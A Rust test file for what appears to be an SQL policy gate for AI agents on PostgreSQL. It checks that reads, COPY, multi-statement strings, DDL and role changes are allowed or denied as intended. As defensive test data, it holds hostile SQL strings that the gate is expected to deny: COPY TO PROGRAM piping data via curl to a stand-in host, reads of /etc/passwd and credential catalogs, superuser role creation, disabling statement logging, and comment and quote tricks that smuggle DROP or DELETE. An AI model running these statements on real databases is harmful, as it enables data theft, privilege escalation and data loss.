//! Statement classes: reads that create or write, COPY, statement
//! boundaries, size bounds and the remaining classes.

use super::*;

/// Statements that look like reads but create, execute or write.
#[test]
fn select_into_and_explain() {
    check(&[
        (
            A,
            "SELECT * INTO orders_copy FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "SELECT id INTO TEMP t FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "SELECT id INTO UNLOGGED t FROM orders",
            "statement_class_denied",
        ),
        (
            S,
            "SELECT * INTO orders_copy FROM orders",
            "statement_class_denied",
        ),
        (A, "SELECT * INTO stolen FROM staff_users", "table_denied"),
        (T, "SELECT * INTO orders_copy FROM orders", "allow"),
        (
            T,
            "SELECT id INTO pg_catalog.evil FROM orders",
            "catalog_write",
        ),
        (
            T,
            "SELECT id INTO audit.evil FROM orders",
            "table_not_allowed",
        ),
        (
            A,
            "CREATE TABLE x AS SELECT * FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE TABLE x AS SELECT * FROM staff_users",
            "table_denied",
        ),
        // EXPLAIN without ANALYZE is judged as the statement it explains
        // (issue 12); EXPLAIN ANALYZE runs it and needs `explain`.
        (A, "EXPLAIN SELECT * FROM orders", "allow"),
        (
            A,
            "EXPLAIN ANALYZE SELECT * FROM orders",
            "statement_class_denied",
        ),
        (A, "EXPLAIN (FORMAT JSON) SELECT 1", "allow"),
        (
            A,
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "explain analyze delete from orders",
            "statement_class_denied",
        ),
        (
            S,
            "EXPLAIN ANALYZE UPDATE orders SET status = 'x' WHERE id = 1",
            "statement_class_denied",
        ),
        (T, "EXPLAIN SELECT * FROM orders", "allow"),
        (T, "EXPLAIN ANALYZE SELECT * FROM orders", "allow"),
        (
            T,
            "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
            "allow",
        ),
        (
            T,
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "allow",
        ),
        (T, "EXPLAIN SELECT * FROM pg_authid", "credential_catalog"),
        (
            T,
            "EXPLAIN ANALYZE SELECT nextval('orders_id_seq')",
            "function_not_allowed",
        ),
        (
            T,
            "EXPLAIN ANALYZE GRANT SELECT ON orders TO PUBLIC",
            "deny",
        ),
    ]);
}

/// COPY in every form (SECURITY: inline data, server-side endpoints).
#[test]
fn copy_forms() {
    check(&[
        // COPY … TO STDOUT is a read under the driver profile (issue 12);
        // COPY … FROM STDIN stays a write that needs `copy`.
        (A, "COPY orders TO STDOUT", "allow"),
        (A, "copy orders to stdout", "allow"),
        (S, "COPY orders TO STDOUT", "allow"),
        (S, "COPY refunds FROM STDIN", "statement_class_denied"),
        (A, "COPY (SELECT id FROM orders) TO STDOUT", "allow"),
        (
            A,
            "COPY (SELECT * FROM staff_users) TO STDOUT",
            "table_denied",
        ),
        (A, "COPY staff_users TO STDOUT", "table_denied"),
        (T, "COPY orders TO STDOUT", "allow"),
        (
            T,
            "COPY orders TO STDOUT WITH (FORMAT csv, HEADER)",
            "allow",
        ),
        (T, "COPY orders TO STDOUT WITH CSV HEADER", "allow"),
        (T, "COPY orders (id, status) TO STDOUT", "allow"),
        (T, "COPY orders FROM STDIN", "allow"),
        (T, "COPY orders FROM STDIN WITH (FORMAT csv)", "allow"),
        (T, "COPY orders (id, status) FROM STDIN", "allow"),
        (
            T,
            "COPY (SELECT id, status FROM orders WHERE id < 10) TO STDOUT",
            "allow",
        ),
        // The tester owns the public schema (no deny list): staff_users is
        // one of its tables.
        (T, "COPY (SELECT * FROM staff_users) TO STDOUT", "allow"),
        (T, "COPY staff_users TO STDOUT", "allow"),
        (
            T,
            "COPY (SELECT * FROM pg_authid) TO STDOUT",
            "credential_catalog",
        ),
        (
            T,
            "COPY pg_catalog.pg_shadow TO STDOUT",
            "credential_catalog",
        ),
        (T, "COPY audit.log FROM STDIN", "table_not_allowed"),
        (
            T,
            "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
            "function_not_allowed",
        ),
        // Server-side files and programs: never, whatever the classes.
        (T, "COPY orders TO '/tmp/x'", "copy_server_side"),
        (T, "COPY orders FROM '/etc/passwd'", "copy_server_side"),
        (T, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
        (
            T,
            "COPY orders TO PROGRAM 'curl -d @- http://example.com'",
            "copy_server_side",
        ),
        (T, "COPY (SELECT 1) TO '/tmp/x'", "copy_server_side"),
        (A, "COPY orders TO '/tmp/x'", "copy_server_side"),
        (A, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
        (
            T,
            "COPY orders TO STDOUT; COPY orders FROM PROGRAM 'id'",
            "copy_server_side",
        ),
        // Inline data: Postgres runs what sqlparser swallows as data.
        (
            T,
            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
            "copy_inline_data|parse_error",
        ),
        (
            A,
            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
            "copy_inline_data|parse_error",
        ),
        (
            T,
            "COPY orders FROM STDIN;\n1\t2\n\\.\n",
            "copy_inline_data|parse_error",
        ),
        (
            T,
            "COPY orders FROM STDIN; CREATE ROLE evil SUPERUSER",
            "deny",
        ),
        (
            T,
            "COPY orders FROM STDIN;\nCREATE ROLE evil SUPERUSER",
            "deny",
        ),
        (
            T,
            "COPY orders TO STDOUT; CREATE ROLE evil SUPERUSER",
            "deny",
        ),
    ]);
}

/// Statement boundaries as Postgres lexes them: one denied statement
/// denies the string; comments, dollar quotes and escapes hide nothing.
#[test]
fn multi_statement_comments_and_quoting() {
    check(&[
        (
            A,
            "SELECT 1; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "DELETE FROM orders WHERE id = 1; SELECT 1",
            "statement_class_denied",
        ),
        (A, "SELECT 1; SELECT * FROM staff_users", "table_denied"),
        (
            A,
            "SELECT id FROM orders; SELECT email FROM customers",
            "column_denied",
        ),
        (A, "SELECT 1; SET search_path = evil", "setting_pinned"),
        (A, "BEGIN; SELECT 1; COMMIT", "allow"),
        (
            A,
            "BEGIN READ ONLY; SELECT count(*) FROM orders; COMMIT",
            "allow",
        ),
        (
            A,
            "COMMIT; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "SELECT 1; SELECT 2", "allow"),
        (A, "SELECT 1;", "allow"),
        (A, "SELECT 1 -- ; DROP TABLE orders", "allow"),
        (A, "SELECT 1 -- ; DROP TABLE orders\n; SELECT 2", "allow"),
        (
            A,
            "SELECT 1 --\n; DROP TABLE orders",
            "statement_class_denied",
        ),
        (A, "SELECT 1 /* ; DROP TABLE orders */", "allow"),
        (
            A,
            "SELECT /* ; DELETE FROM orders */ id FROM orders",
            "allow",
        ),
        // Postgres nests block comments.
        (
            A,
            "SELECT 1 /* outer /* inner */ ; DROP TABLE orders; */",
            "allow",
        ),
        (
            A,
            "SELECT 1 /* a /* b */ */; DROP TABLE orders",
            "statement_class_denied",
        ),
        (A, "SELECT 1 /* unterminated", "deny"),
        (A, "SELECT $$; DROP TABLE x; $$", "allow"),
        (A, "SELECT $tag$ $$ ; DROP TABLE orders; $tag$", "allow"),
        (
            A,
            "SELECT $a$x$a$; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        // `a$b$` is one identifier to Postgres, which then fails on the
        // unterminated `$b$`: nothing runs. Never allow.
        (
            A,
            "SELECT 1 AS a$b$; DELETE FROM orders WHERE id = 1; SELECT $b$",
            "deny",
        ),
        (A, "SELECT 'it''s'", "allow"),
        (
            A,
            "SELECT 'it''s; DELETE FROM orders WHERE id = 1'",
            "allow",
        ),
        (A, r"SELECT E'\''", "allow"),
        // E'…': the backslash escapes the quote, all one literal (PG 15).
        (
            A,
            r"SELECT E'\'; DELETE FROM orders WHERE id = 1; --'",
            "allow",
        ),
        (
            A,
            r"SELECT e'\x27; DELETE FROM orders WHERE id = 1; --'",
            "allow",
        ),
        // Standard strings: the backslash is a plain character and the
        // DELETE runs (PG 15 with standard_conforming_strings = on).
        (
            A,
            r"SELECT '\'; DELETE FROM orders WHERE id = 1; --'",
            "statement_class_denied",
        ),
        (
            A,
            r"SELECT '\'; SELECT * FROM staff_users; --'",
            "table_denied",
        ),
        (A, "SELECT $$it's$$", "allow"),
        (
            A,
            "SELECT '--', 1; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "-- ping", "allow"),
        (A, "", "allow"),
        (A, ";", "allow"),
        // Nesting beyond the recursion limit fails closed.
        (
            A,
            &format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200)),
            "deny",
        ),
    ]);
}

/// Size and shape bounds (SECURITY: "Denial of service from one client").
#[test]
fn size_limits() {
    let or_chain = format!("SELECT 1 WHERE {}true", "1 = 1 OR ".repeat(40_000));
    let long_select = format!("SELECT {}1", "1 + ".repeat(70_000));
    let in_list = format!(
        "SELECT count(*) FROM orders WHERE id IN ({})",
        (1..=5_000)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join(", ")
    );
    let or_ids = format!(
        "SELECT count(*) FROM orders WHERE {}",
        (1..=500)
            .map(|i| format!("id = {i}"))
            .collect::<Vec<_>>()
            .join(" OR ")
    );
    check(&[
        (A, &or_chain, "statement_too_long"),
        (A, &long_select, "statement_too_long"),
        (A, &in_list, "allow"),
        (A, &or_ids, "allow"),
    ]);
}

/// `[deny] statements` compiles strictly: unknown or repeated classes, and
/// a class both allowed and denied, are errors naming file and line.
#[test]
fn deny_statements_compile_strictly() {
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\"]\n\n[deny]\nstatements = [\"cursors\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(e.contains("unknown statement class \"cursors\""), "{e}");
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\"]\n\n[deny]\nstatements = [\"copy\", \"copy\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(e.contains("statement class \"copy\" listed twice"), "{e}");
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\", \"explain\"]\n\n[deny]\nstatements = [\"explain\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(
        e.contains("statement class \"explain\" is both allowed and denied"),
        "{e}"
    );
}

/// A SQL EXECUTE is implied only for what SQL PREPARE prepared: a
/// statement prepared by Parse is held at Bind to checks and limits that
/// EXECUTE's arguments would skip.
#[test]
fn sql_execute_of_a_parse_prepared_statement_needs_the_class() {
    let mut session = actgate::policy::SessionState::default();
    session.parsed("s", Vec::new());
    let reason = |agent: &str, sql: &str| match common::policy::verdict_in(agent, sql, &session) {
        actgate::policy::Verdict::Allow => "allow".to_owned(),
        actgate::policy::Verdict::Deny(d) => d.reason.to_owned(),
    };
    assert_eq!(reason(A, "EXECUTE s"), "statement_class_denied");
    assert_eq!(reason(A, "EXECUTE s (1)"), "statement_class_denied");
    assert_eq!(reason(A, "EXPLAIN EXECUTE s"), "statement_class_denied");
    assert_eq!(reason(T, "EXECUTE s"), "allow");
    assert_eq!(reason(A, "EXECUTE t"), "unknown_prepared_statement");
    assert_eq!(
        reason(A, "PREPARE t AS SELECT id FROM orders; EXECUTE t"),
        "allow"
    );
    assert_eq!(
        reason(A, "PREPARE t AS SELECT id FROM orders; EXPLAIN EXECUTE t"),
        "allow"
    );
}

/// The remaining statement classes.
#[test]
fn other_statement_classes() {
    check(&[
        // PREPARE, EXECUTE and cursors are judged by what they wrap under
        // the driver profile (issue 12).
        (A, "PREPARE p AS SELECT 1", "allow"),
        (A, "PREPARE p AS SELECT * FROM staff_users", "table_denied"),
        (T, "PREPARE p AS SELECT * FROM orders", "allow"),
        (
            T,
            "PREPARE p (int) AS SELECT * FROM orders WHERE id = $1",
            "allow",
        ),
        (T, "PREPARE p AS DELETE FROM orders WHERE id = 1", "allow"),
        (
            T,
            "PREPARE p AS SELECT * FROM pg_authid",
            "credential_catalog",
        ),
        (
            T,
            "PREPARE p AS SELECT nextval('orders_id_seq')",
            "function_not_allowed",
        ),
        (A, "EXECUTE p", "unknown_prepared_statement"),
        (T, "EXECUTE p", "unknown_prepared_statement"),
        (T, "EXECUTE p (1)", "unknown_prepared_statement"),
        // Postgres runs these in order: the EXECUTE uses the PREPARE.
        (T, "PREPARE p AS SELECT 1; EXECUTE p", "allow"),
        (A, "DEALLOCATE p", "allow"),
        (T, "DEALLOCATE p", "allow"),
        (T, "DEALLOCATE ALL", "allow"),
        (T, "DEALLOCATE PREPARE p", "allow"),
        (A, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
        (
            A,
            "DECLARE c CURSOR FOR SELECT * FROM staff_users",
            "table_denied",
        ),
        (T, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
        (T, "FETCH 10 FROM c", "allow"),
        (T, "CLOSE c", "allow"),
        (
            A,
            "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
            "code_block_denied",
        ),
        (
            T,
            "DO $$ BEGIN DELETE FROM orders; END $$",
            "code_block_denied",
        ),
        (
            T,
            "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
            "code_block_denied",
        ),
        (A, "CALL refresh_stats()", "statement_class_denied"),
        (T, "CALL refresh_stats()", "statement_class_denied"),
        (A, "LISTEN orders_changed", "statement_class_denied"),
        (A, "UNLISTEN *", "allow"),
        (A, "NOTIFY orders_changed, 'x'", "statement_class_denied"),
        (S, "NOTIFY orders_changed", "statement_class_denied"),
        (T, "LISTEN orders_changed", "allow"),
        (T, "NOTIFY orders_changed, 'hello'", "allow"),
        (T, "UNLISTEN *", "allow"),
        (A, "VACUUM orders", "statement_class_denied"),
        (A, "VACUUM FULL", "statement_class_denied"),
        (A, "ANALYZE orders", "statement_class_denied"),
        (A, "ANALYZE", "statement_class_denied"),
        (T, "VACUUM orders", "statement_class_denied"),
        (T, "ANALYZE orders", "statement_class_denied"),
        (A, "VACUUM staff_users", "table_denied"),
        (
            A,
            "GRANT SELECT ON orders TO PUBLIC",
            "statement_class_denied",
        ),
        (
            A,
            "GRANT SELECT ON staff_users TO analytics",
            "statement_class_denied|table_denied",
        ),
        (
            A,
            "REVOKE ALL ON orders FROM PUBLIC",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
            "role_management_denied",
        ),
        (
            A,
            "ALTER ROLE analytics SUPERUSER",
            "role_management_denied",
        ),
        (
            A,
            "ALTER USER analytics WITH PASSWORD 'x'",
            "role_management_denied",
        ),
        (A, "GRANT postgres TO analytics", "role_management_denied"),
        (
            T,
            "GRANT SELECT ON orders TO PUBLIC",
            "statement_class_denied",
        ),
        (T, "CREATE ROLE evil SUPERUSER", "role_management_denied"),
        (
            T,
            "CREATE POLICY p ON orders USING (true)",
            "statement_class_denied",
        ),
        (A, "ALTER SYSTEM SET log_statement = 'none'", "deny"),
        (A, "CREATE TABLE t (id int)", "statement_class_denied"),
        (A, "DROP TABLE orders", "statement_class_denied"),
        (A, "DROP TABLE staff_users", "table_denied"),
        (
            A,
            "DROP TABLE IF EXISTS orders, staff_users CASCADE",
            "table_denied",
        ),
        (
            A,
            "ALTER TABLE orders ADD COLUMN x int",
            "statement_class_denied",
        ),
        (
            A,
            "ALTER TABLE staff_users ADD COLUMN x int",
            "table_denied",
        ),
        (
            A,
            "CREATE INDEX ON orders (status)",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE VIEW v AS SELECT * FROM staff_users",
            "table_denied",
        ),
        (
            A,
            "CREATE VIEW v AS SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "COMMENT ON TABLE orders IS 'x'",
            "statement_class_denied",
        ),
        (A, "CREATE EXTENSION dblink", "statement_class_denied"),
        (
            A,
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "statement_class_denied",
        ),
        (A, "TRUNCATE orders", "statement_class_denied"),
        (A, "TRUNCATE staff_users", "table_denied"),
        (S, "TRUNCATE refunds", "statement_class_denied"),
        (S, "CREATE TABLE t (id int)", "statement_class_denied"),
        (
            S,
            "MERGE INTO refunds r USING orders o ON r.order_id = o.id WHEN NOT MATCHED THEN INSERT (order_id, amount_cents, reason, created_by) VALUES (o.id, 1, 'x', 'kpatel')",
            "statement_class_denied",
        ),
        (T, "CREATE TABLE t (id int)", "allow"),
        (T, "CREATE TABLE public.t (id int)", "allow"),
        (T, "CREATE TABLE audit.t (id int)", "table_not_allowed"),
        (T, "CREATE TABLE pg_catalog.t (id int)", "catalog_write"),
        (T, "DROP TABLE orders", "allow"),
        (T, "DROP TABLE pg_catalog.pg_class", "catalog_write"),
        (T, "DROP TABLE audit.log", "table_not_allowed"),
        (T, "ALTER TABLE orders ADD COLUMN x int", "allow"),
        (
            T,
            "ALTER TABLE orders ADD COLUMN x int DEFAULT nextval('s')",
            "function_not_allowed",
        ),
        (T, "TRUNCATE orders", "allow"),
        (T, "TRUNCATE audit.log", "table_not_allowed"),
        (T, "CREATE INDEX ON orders (status)", "allow"),
        (T, "CREATE VIEW v AS SELECT * FROM orders", "allow"),
        (
            T,
            "CREATE VIEW v AS SELECT * FROM pg_authid",
            "credential_catalog",
        ),
        // DDL on objects outside the schemas the agent has ddl rights in.
        (T, "DROP SCHEMA audit CASCADE", "deny"),
        (T, "DROP VIEW audit.v", "table_not_allowed"),
        (T, "CREATE SCHEMA evil", "deny"),
        (A, "BEGIN", "allow"),
        (
            A,
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
            "allow",
        ),
        (A, "SAVEPOINT a", "allow"),
        (A, "RELEASE SAVEPOINT a", "allow"),
        (A, "ROLLBACK TO SAVEPOINT a", "allow"),
        (A, "COMMIT", "allow"),
        (A, "ROLLBACK", "allow"),
        (A, "END", "allow"),
        (A, "PREPARE TRANSACTION 'x'", "deny"),
    ]);
}

/// `CREATE TABLE … PARTITION OF` and `INHERITS` change their parent's
/// definition: DDL on the parent too, so a partition of a table outside the
/// agent's DDL rights is refused; what a bound hides (a function, a
/// subquery) is still seen.
#[test]
fn partitions_and_children_are_ddl_on_their_parent() {
    check(&[
        (
            T,
            "CREATE TABLE orders_2026 PARTITION OF orders FOR VALUES FROM ('2026-01-01') TO ('2027-01-01')",
            "allow",
        ),
        (
            T,
            "CREATE TABLE orders_rest PARTITION OF orders DEFAULT",
            "allow",
        ),
        (
            T,
            "CREATE TABLE orders_h0 PARTITION OF public.orders FOR VALUES WITH (MODULUS 4, REMAINDER 0)",
            "allow",
        ),
        (T, "CREATE TABLE child (x int) INHERITS (orders)", "allow"),
        (
            T,
            "CREATE TABLE p PARTITION OF audit.log FOR VALUES IN (1)",
            "table_not_allowed",
        ),
        (
            T,
            "CREATE TABLE p PARTITION OF pg_catalog.pg_class FOR VALUES IN (1)",
            "catalog_write",
        ),
        (
            T,
            "CREATE TABLE c (x int) INHERITS (audit.log)",
            "table_not_allowed",
        ),
        (
            T,
            "CREATE TABLE p PARTITION OF orders FOR VALUES FROM (nextval('s')) TO (MAXVALUE)",
            "function_not_allowed",
        ),
        (
            T,
            "CREATE TABLE p PARTITION OF orders FOR VALUES IN ((SELECT 1 FROM audit.log))",
            "deny",
        ),
        (
            S,
            "CREATE TABLE orders_2026 PARTITION OF orders FOR VALUES IN (1)",
            "statement_class_denied",
        ),
    ]);
}

/// `REFRESH MATERIALIZED VIEW` rewrites the view's rows (PostgreSQL
/// requires owning it): DDL on the view, refused outside the agent's DDL
/// rights and to agents without DDL.
#[test]
fn refresh_materialized_view_is_ddl_on_the_view() {
    check(&[
        (T, "REFRESH MATERIALIZED VIEW order_totals", "allow"),
        (
            T,
            "REFRESH MATERIALIZED VIEW CONCURRENTLY public.order_totals WITH NO DATA",
            "allow",
        ),
        (
            T,
            "REFRESH MATERIALIZED VIEW audit.totals",
            "table_not_allowed",
        ),
        (
            A,
            "REFRESH MATERIALIZED VIEW order_totals",
            "statement_class_denied",
        ),
    ]);
}
